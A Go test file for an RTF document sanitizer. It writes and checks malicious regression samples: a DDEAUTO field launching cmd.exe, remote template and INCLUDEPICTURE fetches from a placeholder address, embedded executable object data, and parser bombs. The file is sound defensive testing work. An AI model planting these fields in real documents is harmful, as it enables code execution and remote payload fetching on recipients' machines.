package rtf

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kakehashi/kakehashi/sanitize"
)

// malicious are the regression files under testdata/malicious, with what
// must happen to each: a rejection reason, or a removal kind.
var malicious = map[string]struct {
	data   string
	reason sanitize.Reason
	kind   sanitize.RemovalKind
}{
	"deep_nesting_bomb.rtf":  {data: `{\rtf1 ` + strings.Repeat("{", 5000) + strings.Repeat("}", 5000) + `}`, reason: sanitize.ReasonMalformed},
	"bin_huge_length.rtf":    {data: `{\rtf1 {\pict\pngblip\bin9999999999 AAAA}}`, reason: sanitize.ReasonMalformed},
	"unbalanced.rtf":         {data: `{\rtf1 {\object{\*\objdata 4d5a}`, reason: sanitize.ReasonMalformed},
	"no_header.rtf":          {data: `{\rtvpn {\object{\*\objdata 4d5a}}}`, reason: sanitize.ReasonMalformed},
	"template_injection.rtf": {data: `{\rtf1 {\*\template http://198.51.100.7/t.dot}text\par}`, kind: sanitize.RemovedAttachedTemplate},
	"ddeauto.rtf":            {data: `{\rtf1 {\field{\*\fldinst {\rtlch DDEAUTO} c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\fldrslt x}}}`, kind: sanitize.RemovedDDE},
	"includepicture.rtf":     {data: `{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "http://198.51.100.7/x.png" \\d}{\fldrslt}}}`, kind: sanitize.RemovedFieldInclude},
	"object_objdata.rtf":     {data: "{\\rtf1 {\\object\\objocx{\\*\\objdata 01050000\r\n0200 00004d5a9000}}}", kind: sanitize.RemovedRTFObject},
	"object_after_words.rtf": {data: `{\rtf1 {\b\i\object\objupdate{\*\objdata 4d5a}{\result text}}}`, kind: sanitize.RemovedRTFObject},
	"objdata_bare.rtf":       {data: `{\rtf1 {\objdata 4d5a90000300}}`, kind: sanitize.RemovedRTFObject},
	"trailing_payload.rtf":   {data: "{\\rtf1 x}MZ\x90\x00\x03\x00", kind: sanitize.RemovedTrailingData},
}

// TestGenerateMalicious writes the regression files: go test -run
// TestGenerateMalicious -update ./sanitize/rtf
func TestGenerateMalicious(t *testing.T) {
	if !*update {
		t.Skip("run with -update to rewrite testdata/malicious")
	}
	dir := filepath.Join("testdata", "malicious")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, m := range malicious {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(m.data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func TestMaliciousFiles(t *testing.T) {
	for name, m := range malicious {
		t.Run(name, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join("testdata", "malicious", name))
			if err != nil {
				t.Fatalf("missing regression file (run with -update): %v", err)
			}
			out, rep, err := run(t, data, nil)
			if m.reason != "" {
				if r, ok := sanitize.AsRejection(err); !ok || r.Reason != m.reason {
					t.Fatalf("got %v, want rejection %s", err, m.reason)
				}
				return
			}
			if err != nil {
				t.Fatalf("sanitize: %v", err)
			}
			balanced(t, out)
			noActive(t, out)
			if removed(rep, m.kind) == 0 {
				t.Errorf("report %+v lacks %s", rep.Removed, m.kind)
			}
			for _, bad := range []string{"4d5a", "198.51.100.7", "cmd.exe", "MZ"} {
				if strings.Contains(string(out), bad) {
					t.Errorf("output still contains %q", bad)
				}
			}
		})
	}
}
